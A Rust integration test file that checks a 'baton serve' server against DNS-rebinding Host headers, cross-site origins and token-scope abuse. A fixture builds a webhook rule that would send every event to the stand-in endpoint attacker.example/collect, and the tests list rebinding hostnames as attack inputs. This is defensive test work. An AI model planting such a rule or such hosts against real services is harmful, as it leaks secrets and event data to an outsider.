//! `baton serve`'s promises about who may reach it and what a token may do, with a real server
//! process on loopback: a server without tokens answers only requests addressed to a loopback
//! name (a web page that rebinds its own name to 127.0.0.1 is refused), and a `lock` token
//! neither replaces a job's parameters nor acknowledges notifications. SECURITY.md names these
//! tests.

use baton_testkit as common;

use std::net::SocketAddr;

use baton_core::notify::{EventKind, Rule, Settings, SETTINGS_FORMAT};
use common::http::{request, request_with, Answer};
use common::{with_fresh_sqlite, Ctx};
use serde_json::{json, Value};

/// The notification rules' document: its name starts with the control character 1.
const RULES: &str = "/v1/keys/%01notify/document";

/// A request to `address` with these header lines (`Host` among them replaces the address).
fn send(address: SocketAddr, method: &str, path: &str, headers: &[(&str, &str)]) -> Answer {
    let body = (method == "POST").then(|| rules_write().to_string());
    request_with(
        address,
        method,
        path,
        headers,
        None,
        body.as_deref().map(str::as_bytes),
    )
}

/// A write of the rules that adds an attacker's rule (every event of every key).
fn rules_write() -> Value {
    let settings = Settings {
        format: SETTINGS_FORMAT,
        rules: vec![Rule {
            name: "evil".into(),
            prefix: String::new(),
            url: "https://attacker.example/collect".into(),
            events: vec![EventKind::Granted],
            after_ms: None,
        }],
        freezes: Vec::new(),
        resumed: Vec::new(),
    };
    let bytes = serde_json::to_string(&settings).expect("settings encode");
    json!({ "expected": null, "bytes": bytes })
}

fn assert_host_refused(answer: &Answer, what: &str) {
    assert_eq!(answer.status, 403, "{what}: {answer:?}");
    assert_eq!(
        answer.body["error"]["code"], "host_not_allowed",
        "{what}: {answer:?}"
    );
    let message = answer.body["error"]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("127.0.0.1") && message.contains("--tokens"),
        "{what}: the message says why and what to do: {message}"
    );
}

fn assert_answered(answer: &Answer, what: &str) {
    assert!(
        answer.status == 200,
        "{what}: answered as any loopback request: {answer:?}"
    );
}

/// No rule was written: the rules' document is still empty (read on loopback).
fn assert_no_rules(address: SocketAddr) {
    let rules = request(address, "GET", RULES, None, None);
    assert_eq!(rules.body["bytes"], Value::Null, "{rules:?}");
}

#[test]
fn a_tokenless_server_refuses_a_host_that_is_not_a_loopback_name() {
    with_fresh_sqlite(|ctx| {
        let (_server, address) = ctx.serve(&[]);
        let port = address.port();
        // A page at http://rebind.attacker.example:PORT/ whose name now resolves to 127.0.0.1:
        // the browser sends its own name as the Host, whatever the port.
        for host in [
            format!("rebind.attacker.example:{port}"),
            "rebind.attacker.example".to_owned(),
            format!("localhost.attacker.example:{port}"),
            format!("127.0.0.1.attacker.example:{port}"),
            format!("sub.localhost:{port}"),
            format!("10.1.2.3:{port}"),
            format!("[fe80::1]:{port}"),
            String::new(),
        ] {
            let headers = [("Host", host.as_str())];
            // Reading the webhook URLs (secrets).
            assert_host_refused(&send(address, "GET", RULES, &headers), &host);
            // Adding a rule of the attacker's.
            let path = "/v1/settings/notify";
            assert_host_refused(&send(address, "POST", path, &headers), &host);
            // The dashboard and everything else.
            assert_host_refused(&send(address, "GET", "/", &headers), &host);
            assert_host_refused(&send(address, "GET", "/v1/whoami", &headers), &host);
        }
        assert_no_rules(address);
        // Loopback names and addresses, whatever the port and case.
        for host in [
            format!("127.0.0.1:{port}"),
            "127.0.0.1".to_owned(),
            format!("127.3.2.1:{port}"),
            format!("localhost:{port}"),
            format!("LocalHost:{port}"),
            "localhost.".to_owned(),
            format!("[::1]:{port}"),
        ] {
            let headers = [("Host", host.as_str())];
            assert_answered(&send(address, "GET", RULES, &headers), &host);
            assert_answered(&send(address, "GET", "/", &headers), &host);
        }
    });
}

#[test]
fn a_tokenless_server_refuses_an_origin_of_another_site() {
    with_fresh_sqlite(|ctx| {
        let (_server, address) = ctx.serve(&[]);
        let port = address.port();
        let loopback = format!("127.0.0.1:{port}");
        for origin in [
            "http://attacker.example".to_owned(),
            format!("http://attacker.example:{port}"),
            "https://localhost.attacker.example".to_owned(),
            "null".to_owned(),
            "not a url".to_owned(),
        ] {
            let headers = [("Host", loopback.as_str()), ("Origin", origin.as_str())];
            let path = "/v1/settings/notify";
            assert_host_refused(&send(address, "POST", path, &headers), &origin);
            assert_host_refused(&send(address, "GET", RULES, &headers), &origin);
        }
        assert_no_rules(address);
        // The dashboard's own origin, and a loopback one on another port.
        for origin in [
            format!("http://127.0.0.1:{port}"),
            format!("http://localhost:{}", port.wrapping_add(1)),
            "http://[::1]".to_owned(),
        ] {
            let headers = [("Host", loopback.as_str()), ("Origin", origin.as_str())];
            assert_answered(&send(address, "GET", RULES, &headers), &origin);
        }
        let headers = [("Origin", "http://127.0.0.1")];
        let written = send(address, "POST", "/v1/settings/notify", &headers);
        assert_eq!(written.body["outcome"], "written", "{written:?}");
    });
}

#[test]
fn allow_host_adds_a_name_a_tokenless_server_answers() {
    with_fresh_sqlite(|ctx| {
        let (_server, address) = ctx.serve(&["--allow-host", "Baton.CI.internal"]);
        let port = address.port();
        let named = format!("baton.ci.internal:{port}");
        assert_answered(&send(address, "GET", RULES, &[("Host", &named)]), &named);
        let origin = "https://baton.ci.internal";
        let headers = [("Host", named.as_str()), ("Origin", origin)];
        assert_answered(&send(address, "GET", RULES, &headers), origin);
        let other = format!("rebind.attacker.example:{port}");
        assert_host_refused(&send(address, "GET", RULES, &[("Host", &other)]), &other);
        // A tokens file checks every request by its token: there, --allow-host means nothing.
        let done = ctx
            .baton([
                "serve",
                "--listen",
                "127.0.0.1:0",
                "--tokens",
                "t.json",
                "--allow-host",
                "x",
            ])
            .run();
        done.assert_refused(&[2]);
        assert!(done.stderr.contains("--allow-host"), "{}", done.describe());
    });
}

// ---- a `lock` token and other people's jobs and notifications ----

fn new_token(ctx: &Ctx, name: &str, scope: &str) -> (String, Value) {
    let done = ctx
        .baton(["tokens", "new", name, "--json", "--scope", scope])
        .run();
    done.assert_code(0);
    let made: Value = serde_json::from_str(done.stdout.trim()).expect("tokens new --json");
    let token = made["token"].as_str().expect("token").to_owned();
    (token, made["entry"].clone())
}

/// A server with a `lock` token `ci` and an `admin` token `ops` on the test's keys.
fn server_with_tokens(ctx: &Ctx) -> (common::Proc, SocketAddr, String, String) {
    let prefix = ctx.key("");
    let (ci, ci_entry) = new_token(ctx, "ci", &format!("lock:{prefix}"));
    let (ops, ops_entry) = new_token(ctx, "ops", &format!("admin:{prefix}"));
    let file = json!({ "tokens": [ci_entry, ops_entry] });
    std::fs::write(ctx.path("tokens.json"), file.to_string()).expect("write the tokens file");
    let tokens = ctx.path("tokens.json");
    let (proc, address) = ctx.serve(&["--tokens", tokens.to_str().expect("path")]);
    (proc, address, ci, ops)
}

fn segment(name: &str) -> String {
    name.replace('%', "%25").replace('/', "%2F")
}

#[test]
fn a_lock_token_cannot_replace_a_jobs_parameters() {
    with_fresh_sqlite(|ctx| {
        let (_server, address, ci, ops) = server_with_tokens(ctx);
        let key = ctx.key("deploy");
        let store = format!("http://{address}");
        let submit = |token: &str| {
            ctx.baton([
                "submit",
                &key,
                "--id",
                "j1",
                "--params",
                r#"{"commit":"good"}"#,
                "--store",
                &store,
            ])
            .env("BATON_TOKEN", token)
            .run()
        };
        submit(&ci).assert_code(0);
        let path = format!("/v1/keys/{}/records/{}", segment(&key), segment("job/j1"));
        let record = request(address, "GET", &path, Some(&ci), None);
        let good = record.body["bytes"]
            .as_str()
            .expect("the job's record")
            .to_owned();
        assert!(good.contains("good"), "{good}");
        let put = |token: &str, bytes: &str| {
            let body = json!({ "bytes": bytes }).to_string();
            request(address, "PUT", &path, Some(token), Some(body.as_bytes()))
        };
        // The same bytes again (a retried submit whose answer was lost) are harmless.
        assert_eq!(put(&ci, &good).status, 200);
        submit(&ci).assert_code(0);
        // Other parameters for the same job: never, whoever asks, while the job is known.
        let evil = good.replace("good", "evil");
        for token in [&ci, &ops] {
            let refused = put(token, &evil);
            assert_eq!(refused.status, 409, "{refused:?}");
            assert_eq!(refused.body["error"]["code"], "refused", "{refused:?}");
        }
        // A record no job refers to yet: a lock token writes it once, and only admin replaces
        // it (a submit that died before its document write, tried again with other input).
        let orphan = format!("/v1/keys/{}/records/{}", segment(&key), segment("job/j2"));
        let put_orphan = |token: &str, bytes: &str| {
            let body = json!({ "bytes": bytes }).to_string();
            request(address, "PUT", &orphan, Some(token), Some(body.as_bytes()))
        };
        assert_eq!(put_orphan(&ci, &good).status, 200);
        assert_eq!(put_orphan(&ci, &good).status, 200);
        assert_eq!(put_orphan(&ci, &evil).status, 403);
        assert_eq!(put_orphan(&ops, &evil).status, 200);
        let after = request(address, "GET", &path, Some(&ci), None);
        assert_eq!(after.body["bytes"].as_str(), Some(good.as_str()));
    });
}

#[test]
fn acknowledging_notifications_needs_admin() {
    with_fresh_sqlite(|ctx| {
        let (_server, address, ci, ops) = server_with_tokens(ctx);
        let key = ctx.key("audited");
        let path = format!("/v1/keys/{}/ops", segment(&key));
        let notified = baton_core::Request::new(
            "a1".to_owned(),
            baton_core::Op::Notified(baton_core::notify::Delivered {
                rule: "audit".into(),
                through: 0,
                gone: true,
                ..Default::default()
            }),
        );
        let body = serde_json::to_vec(&notified).expect("encode");
        let refused = request(address, "POST", &path, Some(&ci), Some(&body));
        assert_eq!(refused.status, 403, "{refused:?}");
        assert_eq!(refused.body["error"]["code"], "forbidden", "{refused:?}");
        let allowed = request(address, "POST", &path, Some(&ops), Some(&body));
        assert!(
            allowed.status != 401 && allowed.status != 403,
            "{allowed:?}"
        );
    });
}
